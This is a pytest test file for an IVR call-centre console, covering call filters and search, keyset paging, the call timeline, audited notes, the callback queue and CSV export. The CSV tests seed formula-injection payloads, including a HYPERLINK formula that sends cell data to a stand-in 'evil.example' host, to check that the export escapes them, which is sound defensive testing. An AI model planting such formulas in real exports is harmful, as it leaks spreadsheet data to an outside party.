"""The calls list (filters, search, keyset pages), one call's page, notes,
the CSV export and the callback queue."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import uuid
from typing import Any

import pytest
from console_helpers import csrf, signed_in
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from ivr import db
from ivr.console.queries import CallFilters, Cursor, calls_page, parse_search
from ivr.models import AuditLog, Call, CallbackRequest, CallEvent, CallNote, Customer
from ivr.simulator import simulate_call

T0 = dt.datetime(2026, 3, 10, 12, 0, tzinfo=dt.UTC)


@pytest.fixture
def support(app: Flask, client: FlaskClient) -> FlaskClient:
    """The client, signed in as a support user."""
    return signed_in(app, client, "support")


def make_call(**fields: Any) -> Call:
    values: dict[str, Any] = {
        "call_sid": "CA" + uuid.uuid4().hex,
        "from_number": "+12125550150",
        "to_number": "+15550109999",
        "language": "en-US",
        "outcome": "cancelled",
        "started_at": T0,
    }
    values.update(fields)
    return Call(**values)


def add_calls(app: Flask, *calls: Call) -> list[str]:
    with app.app_context():
        s = db.session()
        s.add_all(calls)
        s.commit()
        return [c.call_sid for c in calls]


def sids_on_page(html: str) -> list[str]:
    return re.findall(r'href="/console/calls/(CA[0-9a-f]{32})"', html)


@pytest.mark.parametrize(
    ("text", "call_sid", "phone", "account"),
    [
        ("+1 (555) 010-0001", None, "+15550100001", None),
        ("(555) 010-0001", None, "+15550100001", "5550100001"),
        ("1-555-010-0001", None, "+15550100001", "15550100001"),
        ("100001", None, None, "100001"),
        (" 100 001 ", None, None, "100001"),
        ("CA" + "AB" * 16, "CA" + "ab" * 16, None, None),
    ],
)
def test_search_text_means_a_phone_an_account_or_a_call_sid(
    text: str, call_sid: str | None, phone: str | None, account: str | None
) -> None:
    search = parse_search(text)
    assert search is not None
    assert (search.call_sid, search.phone, search.account) == (call_sid, phone, account)


def test_the_list_is_newest_first_and_links_every_call(app: Flask, support: FlaskClient) -> None:
    sids = add_calls(app, *(make_call(started_at=T0 + dt.timedelta(minutes=i)) for i in range(3)))
    html = support.get("/console/calls").get_data(as_text=True)
    assert sids_on_page(html) == list(reversed(sids))
    outcome_header = r'<th scope="col" aria-sort="none"><a href="[^"]+" class="sort">Outcome</a>'
    assert re.search(outcome_header, html)


def _filter_fixture(app: Flask) -> dict[str, str]:
    sids = add_calls(
        app,
        make_call(
            call_sid="CA" + "1" * 32,
            outcome="saved",
            reason_code="too_expensive",
            offer_code="discount_50_3m",
            offer_accepted=True,
            account_number="100001",
            from_number="+15550100001",
            started_at=T0 - dt.timedelta(days=3),
        ),
        make_call(
            call_sid="CA" + "2" * 32,
            outcome="cancelled",
            reason_code="unused",
            offer_code="pause_3m",
            offer_accepted=False,
            language="es-US",
            from_number="+15550100004",
            started_at=T0 - dt.timedelta(days=1),
        ),
        make_call(
            call_sid="CA" + "3" * 32,
            outcome="cancelled",
            reason_code="too_expensive",
            offer_code="discount_50_3m",
            offer_accepted=False,
            account_number="100002",
            started_at=T0,
        ),
        make_call(
            call_sid="CA" + "4" * 32,
            outcome="abandoned",
            outcome_step="verify",
            from_number="+15550100001",
            started_at=T0 + dt.timedelta(days=1),
        ),
    )
    return dict(zip("1234", sids, strict=True))


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", "4321"),
        ("outcome=cancelled", "32"),
        ("reason=too_expensive", "31"),
        ("reason=none", "4"),
        ("offer=discount_50_3m", "31"),
        ("offer=none", "4"),
        ("language=es-US", "2"),
        ("date_from=2026-03-09&date_to=2026-03-10", "32"),
        ("date_to=2026-03-07", "1"),
        ("date_from=2026-03-11", "4"),
        ("q=%2B1+(555)+010-0001", "41"),
        ("q=555-010-0004", "2"),
        ("q=100002", "3"),
        ("q=CA" + "3" * 32, "3"),
        ("q=nothing-like-this", ""),
        ("outcome=cancelled&reason=too_expensive&language=en-US", "3"),
    ],
)
def test_filters_return_exactly_the_matching_calls(
    app: Flask, support: FlaskClient, query: str, expected: str
) -> None:
    sids = _filter_fixture(app)
    html = support.get("/console/calls?" + query).get_data(as_text=True)
    assert sids_on_page(html) == [sids[n] for n in expected]


def test_a_bad_filter_value_is_reported_not_a_crash(app: Flask, support: FlaskClient) -> None:
    _filter_fixture(app)
    response = support.get("/console/calls?date_from=yesterday&outcome=lost")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "date from is not a date" in html and "unknown outcome" in html
    assert len(sids_on_page(html)) == 4


def test_keyset_pages_have_no_duplicates_and_no_gaps(app: Flask) -> None:
    # Ties on started_at are the hard case: ids break them.
    calls = [make_call(started_at=T0 + dt.timedelta(seconds=i // 3)) for i in range(23)]
    add_calls(app, *calls)
    with app.app_context():
        s = db.session()
        expected = list(s.scalars(select(Call.id).order_by(Call.started_at.desc(), Call.id.desc())))
        seen: list[int] = []
        after = None
        pages = 0
        while True:
            page = calls_page(s, CallFilters(), after, size=5)
            seen.extend(row.id for row in page.rows)
            pages += 1
            if page.next_cursor is None:
                break
            after = Cursor.decode(page.next_cursor.encode())
    assert seen == expected
    assert pages == 5


def test_older_calls_link_walks_every_call_once(app: Flask, support: FlaskClient) -> None:
    sids = add_calls(
        app, *(make_call(started_at=T0 + dt.timedelta(seconds=i // 2)) for i in range(120))
    )
    seen: list[str] = []
    url = "/console/calls?outcome=cancelled"
    while url:
        html = support.get(url).get_data(as_text=True)
        seen.extend(sids_on_page(html))
        more = re.search(r'<a rel="next" href="([^"]+)"', html)
        url = more.group(1).replace("&amp;", "&") if more else ""
        if more:
            assert "outcome=cancelled" in url
    assert len(seen) == 120
    assert set(seen) == set(sids)


def test_a_tampered_cursor_starts_at_the_top(app: Flask, support: FlaskClient) -> None:
    sids = add_calls(app, make_call())
    assert Cursor.decode("not a cursor") is None
    html = support.get("/console/calls?after=%%%").get_data(as_text=True)
    assert sids_on_page(html) == sids


def test_the_call_page_shows_the_record_and_the_timeline(app: Flask, support: FlaskClient) -> None:
    with app.app_context():
        s = db.session()
        ada = s.scalars(select(Customer).where(Customer.account_number == "100001")).one()
        call = make_call(
            customer=ada,
            subscription=ada.subscriptions[0],
            account_number="100001",
            verified=True,
            reason_code="too_expensive",
            reason_text="the price went up again",
            offer_code="discount_50_3m",
            offer_accepted=False,
            confirmation="12345678",
            outcome_step="offer",
            agent_requested=True,
            agent_result="no-answer",
            duration_seconds=74,
            ended_at=T0 + dt.timedelta(seconds=74),
        )
        s.add(call)
        s.flush()
        for n, (kind, detail) in enumerate(
            [
                ("call_started", {"from": "+15550100001"}),
                ("prompt", {"key": "ask_reason", "text": "Why are you cancelling?"}),
                ("input", {"speech": "the price went up again", "confidence": 0.87}),
                ("input", {"digits": "2"}),
                ("input", {"silence": True}),
                ("cancelled", {"subscription": "Premium", "ends": "2026-04-01"}),
            ]
        ):
            s.add(
                CallEvent(
                    call=call,
                    at=T0 + dt.timedelta(seconds=n * 5),
                    type=kind,
                    step="reason",
                    detail=detail,
                )
            )
        s.commit()
        sid = call.call_sid
    html = support.get(f"/console/calls/{sid}").get_data(as_text=True)
    for text in (
        ">Ada Lovelace</a> (account 100001)",
        "Premium, 29.99 USD/month",
        "Too expensive",
        "“the price went up again”",
        "50% off for 3 months",
        "12345678",
        "no: nobody answered",
        "1 min 14 s",
        "Line said [ask_reason] “Why are you cancelling?”",
        "Caller said “the price went up again” (confidence 0.87)",
        "Caller pressed 2",
        "Caller said nothing",
        "service ends 2026-04-01",
    ):
        assert text in html, text
    assert support.get("/console/calls/CA" + "0" * 32).status_code == 404


def test_support_adds_a_note_and_it_is_audited(app: Flask, support: FlaskClient) -> None:
    (sid,) = add_calls(app, make_call())
    page = support.post(
        f"/console/calls/{sid}/notes",
        data={"text": "Called back, all sorted.", "csrf_token": csrf(support)},
        follow_redirects=True,
    )
    html = page.get_data(as_text=True)
    assert "Called back, all sorted." in html and "support@example.com" in html
    empty = support.post(
        f"/console/calls/{sid}/notes",
        data={"text": "   ", "csrf_token": csrf(support)},
        follow_redirects=True,
    )
    assert "A note needs some text." in empty.get_data(as_text=True)
    refused = support.post(f"/console/calls/{sid}/notes", data={"text": "forged"})
    assert refused.status_code == 400
    with app.app_context():
        s = db.session()
        assert list(s.scalars(select(CallNote.text))) == ["Called back, all sorted."]
        actions = list(s.execute(select(AuditLog.action, AuditLog.detail)))
        assert ("add_note", {"call_sid": sid}) in [(a, d) for a, d in actions]


def test_csv_streams_the_filtered_calls_with_a_header(app: Flask, support: FlaskClient) -> None:
    sids = _filter_fixture(app)
    add_calls(
        app,
        make_call(
            call_sid="CA" + "5" * 32,
            reason_text='=HYPERLINK("x")',
            started_at=T0 - dt.timedelta(days=30),
        ),
    )
    response = support.get("/console/calls.csv?outcome=cancelled&date_from=2026-03-01")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.is_streamed
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["call_sid"] for r in rows] == [sids["3"], sids["2"]]
    assert rows[1]["reason"] == "unused" and rows[1]["offer_accepted"] == "no"
    assert rows[1]["language"] == "es-US"
    everything = support.get("/console/calls.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in everything
    with app.app_context():
        audited = (
            db.session()
            .scalars(select(AuditLog.detail).where(AuditLog.action == "export_calls_csv"))
            .all()
        )
    assert audited[0] == {"filters": {"date_from": "2026-03-01", "outcome": "cancelled"}}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_escapes_formulas_in_every_text_column(
    app: Flask, support: FlaskClient, start: str
) -> None:
    evil = start + 'HYPERLINK("https://evil.example/?"&A1)'
    add_calls(
        app,
        make_call(
            from_number=evil[:32],
            account_number=start + "1+1",
            outcome_step=start + "SUM(1)",
            reason_code=start + "cmd",
            offer_code=start + "2",
            agent_result=start + "x",
        ),
    )
    rows = list(csv.reader(io.StringIO(support.get("/console/calls.csv").get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + evil[:32] in cells
    for value in ("1+1", "SUM(1)", "cmd", "2", "x"):
        assert "'" + start + value in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_callbacks_wait_oldest_first_and_can_be_marked_done(
    app: Flask, support: FlaskClient
) -> None:
    with app.app_context():
        s = db.session()
        for minutes, phone in ((5, "+15550100002"), (1, "+15550100001"), (9, "+15550100003")):
            call = make_call(outcome="callback", from_number=phone)
            s.add(call)
            s.add(
                CallbackRequest(
                    call=call, phone=phone, requested_at=T0 + dt.timedelta(minutes=minutes)
                )
            )
        s.commit()
        first = s.scalars(
            select(CallbackRequest.id).where(CallbackRequest.phone == "+15550100001")
        ).one()
    html = support.get("/console/callbacks").get_data(as_text=True)
    order = [html.index(p) for p in ("+15550100001", "+15550100002", "+15550100003")]
    assert order == sorted(order)
    done = support.post(
        f"/console/callbacks/{first}/done",
        data={"csrf_token": csrf(support)},
        follow_redirects=True,
    )
    html = done.get_data(as_text=True)
    assert "marked as done" in html
    assert html.count("Mark done</button>") == 2
    with app.app_context():
        callback = db.session().get(CallbackRequest, first)
        assert callback is not None and callback.done_by == "support@example.com"
        assert (
            db.session()
            .scalars(select(AuditLog.action).where(AuditLog.action == "callback_done"))
            .one()
        )


def test_search_by_the_confirmation_code_a_customer_quotes(app: Flask) -> None:
    t = simulate_call(app, ["1234", "9", "1"], from_number="+15550100001")
    other = simulate_call(app, ["4321"], from_number="+15550100003")
    code = t.record["confirmation"]
    with app.app_context():
        page = calls_page(db.session(), CallFilters.from_args({"q": code}), None)
    sids = [row.call_sid for row in page.rows]
    assert sids == [t.call_sid] and other.call_sid not in sids


@pytest.mark.parametrize(
    "kind, detail, text",
    [
        (
            "understood",
            {"meaning": "not_an_answer", "heard_as": "other_language"},
            "Not taken as an answer (other language); asked again",
        ),
        ("understood", {"meaning": "not_understood"}, "Not understood; asked again"),
        ("understood", {"meaning": "question", "about": "ask_price"}, "Question answered (price)"),
        ("understood", {"meaning": "agent"}, "Understood: asking for a person"),
        ("understood", {"meaning": "no", "confident": True}, "Understood: no"),
        (
            "understood",
            {"meaning": "agent", "confident": False},
            "Probably asking for a person; checked with the caller",
        ),
        ("step", {"from": "verify", "to": "reason"}, "PIN → Reason"),
        ("outcome", {"outcome": "abandoned", "at_step": "offer"}, "Hung up at Offer"),
        (
            "cancelled",
            {"subscription": "Premium", "ends": "2026-12-30", "confirmation": "12345678"},
            "Cancelled Premium, service ends 2026-12-30, confirmation 12345678",
        ),
    ],
)
def test_the_timeline_says_why_words_were_not_an_answer(kind: str, detail: dict, text: str) -> None:
    from ivr.console.timeline import describe_event
    from ivr.models import CallEvent

    assert describe_event(CallEvent(type=kind, detail=detail)) == text
